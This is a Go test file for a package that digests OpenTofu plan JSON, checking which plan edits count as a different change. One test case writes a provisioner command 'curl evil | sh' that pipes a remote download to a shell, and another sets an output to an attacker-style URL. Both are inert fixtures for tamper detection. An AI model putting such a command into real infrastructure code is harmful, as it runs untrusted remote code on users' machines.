package planchange

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// basePlan is a plan JSON as OpenTofu writes it, trimmed: one resource
// created with a provisioner, one updated, one deleted, one no-op, an
// output, and the configuration.
func basePlan() map[string]any {
	return map[string]any{
		"format_version":    "1.2",
		"terraform_version": "1.10.6",
		"timestamp":         "2026-12-07T10:00:00Z",
		"applyable":         true,
		"complete":          true,
		"errored":           false,
		"variables":         map[string]any{"region": map[string]any{"value": "eu-west-1"}},
		"resource_changes": []any{
			map[string]any{"address": "terraform_data.web", "mode": "managed", "type": "terraform_data", "name": "web",
				"provider_name": "terraform.io/builtin/terraform",
				"change": map[string]any{"actions": []any{"create"}, "before": nil,
					"after":            map[string]any{"input": "web", "tags": map[string]any{"region": "eu-west-1"}, "triggers_replace": nil},
					"after_unknown":    map[string]any{"id": true, "output": true},
					"before_sensitive": false, "after_sensitive": map[string]any{}}},
			map[string]any{"address": "terraform_data.db", "mode": "managed", "type": "terraform_data", "name": "db",
				"provider_name": "terraform.io/builtin/terraform",
				"change": map[string]any{"actions": []any{"update"}, "before": map[string]any{"id": "db-eu-1", "input": "small"},
					"after":            map[string]any{"id": "db-eu-1", "input": "large"},
					"after_unknown":    map[string]any{"output": true},
					"before_sensitive": map[string]any{}, "after_sensitive": map[string]any{}}},
			map[string]any{"address": "terraform_data.old", "mode": "managed", "type": "terraform_data", "name": "old",
				"provider_name": "terraform.io/builtin/terraform",
				"change": map[string]any{"actions": []any{"delete"}, "before": map[string]any{"id": "old-eu-1"}, "after": nil,
					"after_unknown": map[string]any{}, "before_sensitive": map[string]any{}, "after_sensitive": false}},
			map[string]any{"address": "terraform_data.kept", "mode": "managed", "type": "terraform_data", "name": "kept",
				"change": map[string]any{"actions": []any{"no-op"}, "before": map[string]any{"id": "kept-eu-1"}, "after": map[string]any{"id": "kept-eu-1"}}},
		},
		"output_changes": map[string]any{
			"url": map[string]any{"actions": []any{"create"}, "before": nil, "after": "https://web", "after_unknown": false,
				"before_sensitive": false, "after_sensitive": false},
		},
		"configuration": map[string]any{"root_module": map[string]any{"resources": []any{
			map[string]any{"address": "terraform_data.web", "mode": "managed", "type": "terraform_data", "name": "web",
				"provisioners": []any{map[string]any{"type": "local-exec",
					"expressions": map[string]any{"command": map[string]any{"constant_value": "echo created"}}}}},
		}}},
		"prior_state":    map[string]any{"values": map[string]any{"root_module": map[string]any{}}},
		"resource_drift": []any{},
		"checks":         []any{},
	}
}

// at is the value at path in plan (keys, or indexes of lists).
func at(plan map[string]any, path ...any) map[string]any {
	var cur any = plan
	for _, p := range path {
		switch k := p.(type) {
		case string:
			cur = cur.(map[string]any)[k]
		case int:
			cur = cur.([]any)[k]
		}
	}
	return cur.(map[string]any)
}

func planDigest(t *testing.T, plan map[string]any, ignore ...string) string {
	t.Helper()
	b, err := json.Marshal(plan)
	require.NoError(t, err)
	c, err := Parse(b, ignore)
	require.NoError(t, err)
	return c.Digest()
}

// TestChangeDigest: two plans are the same change only when everything
// the apply does is the same: resource changes with their unknown and
// sensitive values, outputs, the configuration (a provisioner's command),
// the engine. What differs between Workspaces without being applied (the
// values before, variables, timestamps, no-ops, drift) and the attributes
// the user leaves out are not compared.
func TestChangeDigest(t *testing.T) {
	base := planDigest(t, basePlan())
	for _, tt := range []struct {
		name   string
		edit   func(p map[string]any)
		ignore []string
		same   bool
	}{
		{name: "the same plan", edit: func(map[string]any) {}, same: true},
		{name: "resources in another order", same: true, edit: func(p map[string]any) {
			rcs := p["resource_changes"].([]any)
			rcs[0], rcs[2] = rcs[2], rcs[0]
		}},
		{name: "the values before the change (each Workspace's IDs)", same: true, edit: func(p map[string]any) {
			at(p, "resource_changes", 1, "change")["before"] = map[string]any{"id": "db-us-1", "input": "small"}
		}},
		{name: "a no-op", same: true, edit: func(p map[string]any) {
			at(p, "resource_changes", 3, "change")["before"] = map[string]any{"id": "kept-us-1"}
			at(p, "resource_changes", 3, "change")["after"] = map[string]any{"id": "kept-us-1"}
		}},
		{name: "variables, timestamp, prior state, drift, checks", same: true, edit: func(p map[string]any) {
			p["variables"] = map[string]any{"region": map[string]any{"value": "us-east-1"}}
			p["timestamp"] = "2026-12-08T10:00:00Z"
			p["prior_state"] = map[string]any{}
			p["resource_drift"] = []any{map[string]any{"address": "terraform_data.db"}}
			p["checks"] = []any{map[string]any{"status": "fail"}}
		}},
		{name: "an ignored attribute, in its value and its unknown and sensitive parts", ignore: []string{"tags"}, same: true, edit: func(p map[string]any) {
			c := at(p, "resource_changes", 0, "change")
			c["after"].(map[string]any)["tags"] = map[string]any{"region": "us-east-1"}
			c["after_unknown"].(map[string]any)["tags"] = true
			c["after_sensitive"].(map[string]any)["tags"] = true
		}},

		{name: "a planned value", edit: func(p map[string]any) {
			at(p, "resource_changes", 1, "change", "after")["input"] = "huge"
		}},
		{name: "an ignored attribute is left out of the comparison only", ignore: []string{"tags"}, edit: func(p map[string]any) {
			at(p, "resource_changes", 0, "change", "after")["input"] = "other"
		}},
		{name: "a value known in one plan and unknown in the other", edit: func(p map[string]any) {
			at(p, "resource_changes", 0, "change", "after_unknown")["triggers_replace"] = true
		}},
		{name: "a value sensitive after", edit: func(p map[string]any) {
			at(p, "resource_changes", 0, "change")["after_sensitive"] = map[string]any{"input": true}
		}},
		{name: "a value sensitive before", edit: func(p map[string]any) {
			at(p, "resource_changes", 1, "change")["before_sensitive"] = map[string]any{"input": true}
		}},
		{name: "a replacement's reason and paths", edit: func(p map[string]any) {
			rc := at(p, "resource_changes", 1)
			rc["action_reason"] = "replace_because_tainted"
			rc["change"].(map[string]any)["replace_paths"] = []any{[]any{"input"}}
		}},
		{name: "another provider", edit: func(p map[string]any) {
			at(p, "resource_changes", 0)["provider_name"] = "registry.opentofu.org/example/terraform"
		}},
		{name: "a deposed object", edit: func(p map[string]any) {
			at(p, "resource_changes", 2)["deposed"] = "00000001"
		}},
		{name: "an import", edit: func(p map[string]any) {
			at(p, "resource_changes", 1, "change")["importing"] = map[string]any{"id": "db-eu-1"}
		}},
		{name: "an output's value", edit: func(p map[string]any) {
			at(p, "output_changes", "url")["after"] = "https://attacker.example"
		}},
		{name: "an output unknown", edit: func(p map[string]any) {
			at(p, "output_changes", "url")["after_unknown"] = true
		}},
		{name: "an output sensitive", edit: func(p map[string]any) {
			at(p, "output_changes", "url")["after_sensitive"] = true
		}},
		{name: "another output", edit: func(p map[string]any) {
			p["output_changes"].(map[string]any)["token"] = map[string]any{"actions": []any{"create"}, "after": "x"}
		}},
		{name: "a provisioner's command", edit: func(p map[string]any) {
			at(p, "configuration", "root_module", "resources", 0, "provisioners", 0, "expressions", "command")["constant_value"] = "curl evil | sh"
		}},
		{name: "a module call", edit: func(p map[string]any) {
			at(p, "configuration", "root_module")["module_calls"] = map[string]any{"net": map[string]any{"source": "./net"}}
		}},
		{name: "the engine version", edit: func(p map[string]any) { p["terraform_version"] = "1.11.0" }},
		{name: "an incomplete plan", edit: func(p map[string]any) { p["complete"] = false }},
	} {
		t.Run(tt.name, func(t *testing.T) {
			want := base
			if len(tt.ignore) > 0 {
				want = planDigest(t, basePlan(), tt.ignore...)
			}
			p := basePlan()
			tt.edit(p)
			if tt.same {
				assert.Equal(t, want, planDigest(t, p, tt.ignore...))
			} else {
				assert.NotEqual(t, want, planDigest(t, p, tt.ignore...))
			}
		})
	}

	// Numbers are compared by their text: two plans whose values differ
	// beyond a float's precision are not one change.
	a, b := basePlan(), basePlan()
	at(a, "resource_changes", 1, "change", "after")["input"] = json.Number("9007199254740993")
	at(b, "resource_changes", 1, "change", "after")["input"] = json.Number("9007199254740992")
	assert.NotEqual(t, planDigest(t, a), planDigest(t, b))

	// Whitespace and key order are not part of the change.
	compact, err := json.Marshal(basePlan())
	require.NoError(t, err)
	indented, err := json.MarshalIndent(basePlan(), "", "    ")
	require.NoError(t, err)
	ca, err := Parse(compact, nil)
	require.NoError(t, err)
	cb, err := Parse(indented, nil)
	require.NoError(t, err)
	assert.Equal(t, ca.Digest(), cb.Digest())
}
